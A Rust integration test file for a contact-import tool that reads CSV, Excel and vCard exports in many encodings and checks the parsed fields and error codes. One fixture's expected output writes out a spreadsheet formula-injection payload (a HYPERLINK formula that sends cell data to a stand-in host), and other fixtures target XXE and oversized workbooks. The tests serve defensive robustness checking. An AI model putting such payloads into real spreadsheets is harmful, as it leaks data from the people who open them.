//! The readers, over files as people really have them.

use std::{
    fs,
    path::{Path, PathBuf},
};

use fairlead::{
    domain::{Draft, Line, Problem},
    exchange::{self, Options, guess},
    i18n::{self, Lang},
};

/// Nothing said of a file; old workbooks are read by the program itself, not by the tests.
pub fn plain() -> Options {
    Options { program: Some(env!("CARGO_BIN_EXE_fairlead").into()), ..Options::default() }
}

/// The path of a file of the test data.
pub fn sample(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/import").join(name)
}

/// Reads bytes under a name in a folder that is gone afterwards.
pub fn read_bytes(name: &str, bytes: &[u8], options: &Options) -> String {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join(name);
    fs::write(&path, bytes).expect("a file");
    summary(&path, options)
}

/// What a file is, in a line for each of its sheets: kind, encoding, delimiter or sheet, header
/// row, number of lines, the first value that is a name, and the problems with their rows.
pub fn summary(path: &Path, options: &Options) -> String {
    match exchange::open(path, options) {
        Ok(drafts) => drafts.into_iter().map(draft_summary).collect::<Vec<_>>().join("\n"),
        Err(error) => format!("error {}", error.code()),
    }
}

/// One sheet of it.
pub fn draft_summary(draft: Draft) -> String {
    let Draft { layout, headers, lines, notes } = draft;
    let lines: Result<Vec<Line>, Problem> = lines.collect();
    let lines = match lines {
        Ok(lines) => lines,
        Err(problem) => return format!("stopped {}", problem.code),
    };
    let mapping = guess(&headers, &lines);
    let first = lines.iter().find_map(|line| {
        let values = mapping.values(line);
        let name = values.iter().find(|v| v.target.name == "name" || v.target.name == "given_name");
        name.map(|name| name.text.to_string())
    });
    let problems = notes.iter().chain(lines.iter().flat_map(|line| &line.problems));
    let problems: Vec<String> = problems
        .map(|problem| {
            let mark = if problem.rejects { "!" } else { "" };
            format!(" {}:{}{mark}", problem.row, problem.code)
        })
        .collect();
    format!(
        "{} {} {} @{} {} {}{}",
        layout.kind,
        layout.encoding.unwrap_or_else(|| "-".to_owned()),
        layout
            .sheet
            .unwrap_or_else(|| layout.delimiter.map_or_else(String::new, |d| format!("{d:?}"))),
        layout.header_row.unwrap_or(0),
        lines.len(),
        first.unwrap_or_default(),
        problems.concat(),
    )
}

#[track_caller]
pub fn check(table: &[(&str, &str)]) {
    for (name, expected) in table {
        assert_eq!(summary(&sample(name), &plain()), *expected, "{name}");
    }
}

#[test]
fn delimited_text_of_every_sort_is_read() {
    check(&[
        ("dirty/big5_cp950_short.csv", "csv Big5 ',' @1 1 王小明"),
        ("dirty/csv_named.xls", "csv Big5 ',' @1 1 王小明"),
        ("dirty/header_only_big5.csv", "csv Big5 ',' @1 0 "),
        ("dirty/gbk_short.csv", "csv GBK ',' @1 1 张伟"),
        ("dirty/gbk_traditional_in_gbk.csv", "csv GBK ',' @1 1 王小明"),
        ("dirty/sjis_cp932.csv", "csv Shift_JIS ',' @1 1 山田 太郎"),
        ("dirty/excel_unicode_text_utf16le_tab.txt", "csv UTF-16LE '\\t' @1 3 王小明"),
        ("dirty/utf16be_bom.csv", "csv UTF-16BE ',' @1 3 王小明"),
        ("dirty/utf8_bom.csv", "csv UTF-8 ',' @1 3 王小明"),
        ("dirty/utf8_nobom.csv", "csv UTF-8 ',' @1 3 王小明"),
        ("dirty/semicolon_bom.csv", "csv UTF-8 ';' @1 3 王小明"),
        ("dirty/pipe.csv", "csv UTF-8 '|' @1 3 王小明"),
        ("dirty/sep_line_excel.csv", "csv UTF-8 ';' @2 3 王小明"),
        ("dirty/duplicate_headers.csv", "csv UTF-8 ',' @1 1 王小明"),
        ("dirty/excel_text_escape.csv", "csv UTF-8 ',' @1 3 王小明"),
        ("dirty/multi_value_cells.csv", "csv UTF-8 ',' @1 6 王小明 經理"),
        ("dirty/nul_bytes.csv", "csv UTF-8 ',' @1 1 王小明"),
        ("dirty/no_header.csv", "csv UTF-8 ',' @0 3 王小明"),
        ("dirty/ragged.csv", "csv UTF-8 ',' @1 3 王小明 2:ragged 3:ragged"),
        (
            "dirty/scientific_phone.csv",
            "csv UTF-8 ',' @1 4 王小明 2:digits-lost! 4:digits-lost! 5:digits-lost!",
        ),
        ("dirty/title_rows_above_header.csv", "csv UTF-8 ',' @4 4 王小明 9:totals-row!"),
        (
            "attack/formula_injection.csv",
            "csv UTF-8 ',' @1 3 =HYPERLINK(\"http://example.invalid/?x=\"&A2,\"click\")",
        ),
    ]);
}

#[test]
fn exports_of_other_programs_are_read() {
    check(&[
        ("headers/camcard_zh_TW.utf8sig.csv", "csv UTF-8 ',' @1 3 王小明"),
        ("headers/eventbrite_attendees.utf8.csv", "csv UTF-8 ',' @1 3 小明"),
        ("headers/eventyay_leads.utf8.csv", "csv UTF-8 ',' @1 3 王小明"),
        ("headers/fair_zh_TW_event_checkin.utf8.csv", "csv UTF-8 ',' @1 3 王小明"),
        ("headers/fair_zh_TW_generic.utf8sig.csv", "csv UTF-8 ',' @1 3 王小明"),
        ("headers/google_contacts_new.utf8.csv", "csv UTF-8 ',' @1 3 小明"),
        ("headers/hubspot_contact.utf8.csv", "csv UTF-8 ',' @1 3 小明"),
        ("headers/linkedin_connections.utf8.csv", "csv UTF-8 ',' @4 3 小明"),
        ("headers/outlook_en.utf8.csv", "csv UTF-8 ',' @1 3 小明"),
        ("headers/outlook_zh_TW.cp950.csv", "csv Big5 ',' @1 3 小明"),
        ("headers/salesforce_lead.utf8.csv", "csv UTF-8 ',' @1 3 小明"),
        ("headers/thunderbird_en.utf8.csv", "csv UTF-8 ',' @1 3 小明"),
        ("headers/zoho_lead.utf8.csv", "csv UTF-8 ',' @1 3 小明"),
    ]);
}

#[test]
fn workbooks_are_read() {
    check(&[
        ("dirty/phones_as_numbers.xlsx", "xlsx - 名片 @1 3 王小明"),
        (
            "dirty/title_rows_merged_cells.xlsx",
            "xlsx - 彙整 @5 6 王小明 10:formula-empty 10:totals-row! 12:totals-row!",
        ),
        (
            "dirty/multi_sheet_hidden.xlsx",
            "xlsx - 3月5日, 3月6日, 3月7日 @1 4 3月5日王 0:sheet-left-out 0:sheet-left-out 0:sheet-left-out",
        ),
        ("dirty/blank_rows_invisible.xlsx", "xlsx - Sheet @1 1 王小明"),
        (
            "dirty/formulas_no_cached_values.xlsx",
            "xlsx - Sheet @1 1 小明 2:formula-empty 2:formula-empty 2:formula-empty",
        ),
        ("attack/two_corner_cells.xlsx", "xlsx - Sheet @0 2  1048576:too-many-columns"),
        ("workbooks/date.xlsx", "xlsx - Sheet1 @0 3 "),
        ("workbooks/merge_cells.xlsx", "xlsx - Sheet1 @0 2 Row Merge"),
        ("workbooks/has_x000D_.xlsx", "xlsx - Sheet1 @0 1 ABC\nDEF"),
    ]);
}

#[test]
fn what_cannot_be_read_says_so() {
    check(&[
        ("workbooks/pass_protected.xlsx", "error password-protected"),
        ("workbooks/errors.xlsx", "error errors-only"),
        ("attack/truncated.xlsx", "error damaged-file"),
        ("attack/xxe_entities.xlsx", "error damaged-file"),
        ("nowhere.csv", "error file-not-found"),
        ("dirty", "error file-is-a-folder"),
    ]);

    assert_eq!(read_bytes("a.csv", b"", &plain()), "error empty-file");
    assert_eq!(read_bytes("a.csv", b"\xEF\xBB\xBF", &plain()), "error empty-file");
    assert_eq!(read_bytes("a.csv", b"\n \n,,\n", &plain()), "csv UTF-8 ',' @0 0 ");
    assert_eq!(
        read_bytes("a.csv", b"GIF89a\0\0\0\r\x01\x02\x01", &plain()),
        "error unknown-format"
    );
    assert_eq!(read_bytes("a.csv", b"PK\x03\x04junk", &plain()), "error damaged-file");
}

#[test]
fn errors_name_the_file_in_every_language() {
    let error = exchange::open(&sample("workbooks/pass_protected.xlsx"), &plain()).unwrap_err();
    for lang in Lang::ALL {
        assert!(error.text(*lang).contains("pass_protected.xlsx"), "{}", error.text(*lang));
    }
    assert_eq!(error.class().exit_status(), 4);
}

#[test]
fn cards_are_read() {
    check(&[
        ("headers/android_zh_vcard21_qp_utf8.vcf", "vcf UTF-8  @0 1 张三"),
        ("headers/camcard_intsig_redacted.vcf", "vcf UTF-8  @0 1 王小明"),
        ("headers/outlook_zh_TW_vcard21_qp_big5.vcf", "vcf UTF-8  @0 1 許功蓋"),
        ("vcards/John_Doe_ANDROID.vcf", "vcf UTF-8  @0 6 Ñ Ñ Ñ Ñ Ñ"),
        ("vcards/John_Doe_MS_OUTLOOK.vcf", "vcf UTF-8  @0 1 Mr. John Richter James Doe Sr."),
        ("vcards/fullcontact.vcf", "vcf UTF-8  @0 1 Prefix FirstName MiddleName LastName Suffix"),
        ("vcards/gmail-list.vcf", "vcf UTF-8  @0 3 Arnold Smith"),
        ("vcards/gmail-single.vcf", "vcf UTF-8  @0 1 Greg Dartmouth"),
        ("vcards/issue114.vcf", "vcf UTF-8  @0 1 Dummy, Dummy"),
        ("vcards/outlook-2003.vcf", "vcf UTF-8  @0 1 John Doe III"),
        ("vcards/rfc2426-example.vcf", "vcf UTF-8  @0 2 Frank Dawson"),
        ("vcards/rfc6350-example.vcf", "vcf UTF-8  @0 1 Simon Perreault"),
    ]);
}

/// What the lines of a file say, field by field.
pub fn values(path: &Path) -> Vec<Vec<(&'static str, String)>> {
    let draft = exchange::open(path, &plain()).expect("a readable file").remove(0);
    let lines: Vec<Line> = draft.lines.map(|line| line.expect("a whole file")).collect();
    let mapping = guess(&draft.headers, &lines);
    let of = |line| mapping.values(line).into_iter().map(|v| (v.target.name, v.text.into_owned()));
    lines.iter().map(|line| of(line).collect()).collect()
}

#[track_caller]
pub fn check_values(name: &str, row: usize, expected: &[(&str, &str)]) {
    let rows = values(&sample(name));
    let row: Vec<_> = rows
        .get(row)
        .expect("so many rows")
        .iter()
        .map(|(field, text)| (*field, text.as_str()))
        .collect();
    assert_eq!(row, expected, "{name}");
}

#[test]
fn cards_say_who_it_is() {
    check_values(
        "headers/camcard_intsig_redacted.vcf",
        0,
        &[
            ("name", "王小明"),
            ("family_name", "王"),
            ("given_name", "小明"),
            ("job_title", "总经理 / General Manager"),
            ("mobile", "13800138000"),
            ("phone", "075512345678"),
            ("email", "xm@example.cn"),
            ("street", "示例区示例路1号 示例大厦15A"),
        ],
    );
    check_values(
        "headers/outlook_zh_TW_vcard21_qp_big5.vcf",
        0,
        &[
            ("name", "許功蓋"),
            ("family_name", "許"),
            ("given_name", "功蓋"),
            ("company", "測試股份有限公司"),
            ("mobile", "0912345678"),
        ],
    );
}

#[test]
fn exports_say_who_it_is() {
    check_values(
        "headers/google_contacts_new.utf8.csv",
        1,
        &[
            ("given_name", "偉"),
            ("family_name", "張"),
            ("company", "示例科技（深圳）有限公司"),
            ("job_title", "采购总监"),
            ("department", "采购部"),
            ("notes", "微信同号"),
            ("tags", "2026 台北展"),
            ("email", "zhangwei@example.cn"),
            ("mobile", "13800138000"),
            ("phone", "0755-1234 5678"),
            ("street", "广东省深圳市南山区示例路1号"),
        ],
    );
    check_values(
        "headers/linkedin_connections.utf8.csv",
        0,
        &[
            ("given_name", "小明"),
            ("family_name", "王"),
            ("linkedin", "https://www.linkedin.com/in/example"),
            ("email", "xm.wang@example.com.tw"),
            ("company", "測試精密工業股份有限公司"),
            ("job_title", "經理"),
            ("captured_at", "24 May 2024"),
        ],
    );
}

#[test]
fn workbooks_keep_zeros_and_fill_merged_cells() {
    check_values(
        "dirty/phones_as_numbers.xlsx",
        1,
        &[
            ("name", "张伟"),
            ("company", "示例科技有限公司"),
            ("job_title", "采购总监"),
            ("mobile", "13800138000"),
            ("mobile", "13800-138-000"),
            ("mobile", "13800138000"),
            ("tax_id", "04595257"),
            ("captured_at", "2026-03-05"),
            ("email", "zw@example.cn"),
        ],
    );
    check_values(
        "dirty/title_rows_merged_cells.xlsx",
        1,
        &[
            ("name", "李四"),
            ("job_title", "副理"),
            ("company", "測試股份有限公司"),
            ("department", "採購部"),
            ("mobile", "0922333444"),
            ("email", "b@example.com"),
        ],
    );
}

#[test]
fn a_person_may_say_how_to_read() {
    let options = |change: fn(&mut Options)| {
        let mut options = Options::default();
        change(&mut options);
        options
    };
    let read = |name: &str, change| summary(&sample(name), &options(change));
    let book = "dirty/multi_sheet_hidden.xlsx";
    assert_eq!(read(book, |o| o.sheets = vec!["隱藏_選項".into()]), "xlsx - 隱藏_選項 @0 1 ");
    assert_eq!(read(book, |o| o.sheets = vec!["3月9日".into()]), "error unknown-sheet");
    let text = "dirty/title_rows_above_header.csv";
    assert_eq!(read(text, |o| o.header_row = Some(4)), "csv UTF-8 ',' @4 4 王小明 9:totals-row!");
    assert_eq!(read("dirty/ragged.csv", |o| o.header_row = Some(99)), "error no-such-row");
    assert_eq!(read("dirty/pipe.csv", |o| o.header_row = Some(0)), "csv UTF-8 '|' @0 4 姓名");
    assert_eq!(read("dirty/pipe.csv", |o| o.delimiter = Some(';')), "csv UTF-8 ';' @0 5 ");
    assert_eq!(
        read("dirty/gbk_short.csv", |o| o.encoding = Some("cp936".into())),
        "csv GBK ',' @1 1 张伟"
    );
    assert_eq!(
        read("dirty/gbk_short.csv", |o| o.encoding = Some("klingon".into())),
        "error unknown-encoding"
    );
}

#[test]
fn every_code_has_a_text_in_every_language() {
    let sources = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/exchange");
    let Ok(folder) = fs::read_dir(sources) else { return };
    let calls = [
        ("unreadable(\"", "error-"),
        ("Error::usage(\"", "error-"),
        ("Problem::warning(number, \"", "problem-"),
        ("Problem::rejection(number, \"", "problem-"),
        ("self.stop(\"", "problem-"),
        ("self.stop(\"", "error-"),
    ];
    let mut count = 0;
    for file in folder {
        let text = fs::read_to_string(file.unwrap().path()).unwrap();
        for (call, prefix) in calls {
            for code in text.split(call).skip(1).filter_map(|rest| rest.split('"').next()) {
                count += 1;
                for lang in Lang::ALL {
                    let key = format!("{prefix}{code}");
                    assert!(i18n::known(*lang, &key).is_some(), "{key} in {}", lang.code());
                }
            }
        }
    }
    assert!(count > 20, "{count}");
}
